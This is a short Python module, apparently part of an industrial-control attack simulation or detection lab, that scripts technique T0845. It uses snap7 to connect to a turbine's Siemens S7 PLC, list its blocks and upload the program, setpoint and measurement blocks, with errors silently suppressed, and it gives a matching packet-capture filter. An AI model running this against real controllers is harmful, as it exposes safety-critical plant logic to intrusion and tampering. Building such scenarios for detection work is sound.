"""Blocks of the turbine's program are read out."""

from __future__ import annotations

import contextlib

from snap7.client import Client
from snap7.type import Block

from ..devices.s7_plc import MEASUREMENTS, PROGRAM, SETPOINTS
from ..node import Node

TITLE = "S7 blocks listed and uploaded from the turbine PLC by a new device"
TECHNIQUES = ("T0845",)
ORIGIN = "laptop"
ENTITIES = ("laptop", "plc-turbine")
EVIDENCE = "s7comm.param.func == 0x1e && ip.src == 10.20.1.99"


def run(node: Node) -> None:
    """List the blocks, then start-upload, upload, end-upload for each."""
    client = Client()
    client.connect(node.peer("plc-turbine"), 0, 2)
    with contextlib.suppress(Exception):
        client.list_blocks()
        client.list_blocks_of_type(Block.DB, 64)
    for block in (MEASUREMENTS, SETPOINTS, PROGRAM):
        with contextlib.suppress(Exception):
            client.upload(block)
        node.pause(0.5)
    client.disconnect()
